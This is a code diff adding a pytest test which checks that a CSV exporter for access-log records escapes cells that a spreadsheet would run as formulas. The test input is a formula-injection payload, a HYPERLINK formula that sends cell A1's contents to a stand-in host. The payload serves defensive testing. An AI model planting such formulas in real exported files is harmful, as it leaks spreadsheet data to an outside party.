@@ -318,6 +318,16 @@ def test_csv_has_a_header_and_one_line_per_row():
     assert empty.getvalue().strip() == ",".join(fx.COLUMNS["note_versions"])
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_escapes_cells_a_spreadsheet_would_run_as_a_formula(start):
+    evil = start + 'HYPERLINK("http://x.example/?"&A1,"click")'
+    out = io.StringIO()
+    fx.write_csv("access_log", [{**access_row(rule="45 CFR 164.506(c)(1)"), "requester_id": evil}], out)
+    record = dict(zip(*list(csv.reader(io.StringIO(out.getvalue())))))
+    assert record["requester_id"] == "'" + evil
+    assert record["rule"] == "45 CFR 164.506(c)(1)" and record["global_position"].isdigit()
+
+
 def test_columns_match_the_projection_functions():
     samples = {
         "access_log": access_row(),
